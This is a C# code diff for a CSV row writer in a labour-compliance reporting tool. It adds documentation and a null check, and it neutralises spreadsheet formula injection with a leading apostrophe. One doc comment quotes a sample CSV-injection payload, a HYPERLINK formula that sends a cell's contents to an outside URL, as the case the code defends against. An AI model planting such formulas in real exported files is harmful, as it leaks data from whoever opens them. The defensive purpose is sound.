@@ -2,20 +2,30 @@ using System;
 using System.Collections.Generic;
 using System.Linq;
 
-namespace Compliance.Cli;
+namespace ChinaLabour.Compliance.Reports;
 
 /// <summary>
 /// RFC 4180 rows: fields quoted when they hold a comma, quote or line break. A field a spreadsheet would take for a
 /// formula (starting with =, +, -, @, a tab or a carriage return) is neutralised with a leading apostrophe, as OWASP
 /// advises for CSV injection: auditors open these files in Excel, and an employer's name or id such as
-/// <c>=HYPERLINK("http://…?leak="&amp;A1,"click")</c> must stay text.
+/// <c>=HYPERLINK("http://…?leak="&amp;A1,"click")</c> must stay text. Public so that a caller's own tables (the
+/// problems it found reading its input, say) are written as the batch's are.
 /// </summary>
-internal static class Csv
+/// <threadsafety>Static and stateless: safe to call from any thread.</threadsafety>
+public static class Csv
 {
-    public static string Row(IEnumerable<string?> fields) => string.Join(",", fields.Select(Field)) + "\r\n";
+    /// <summary>One CSV line of <paramref name="fields"/>, ending CRLF as RFC 4180 asks; a null field is empty.</summary>
+    /// <param name="fields">The fields, in order.</param>
+    /// <returns>The line, with its CRLF.</returns>
+    /// <exception cref="ArgumentNullException"><paramref name="fields"/> is null.</exception>
+    public static string Row(IEnumerable<string?> fields)
+    {
+        ArgumentNullException.ThrowIfNull(fields);
+        return string.Join(",", fields.Select(Field)) + "\r\n";
+    }
 
     /// <summary>The text a spreadsheet shows as text: a leading apostrophe before what it would take for a formula.</summary>
-    public static string Neutralised(string value) =>
+    internal static string Neutralised(string value) =>
         value.Length > 0 && value[0] is '=' or '+' or '-' or '@' or '\t' or '\r' ? "'" + value : value;
 
     private static string Field(string? value)
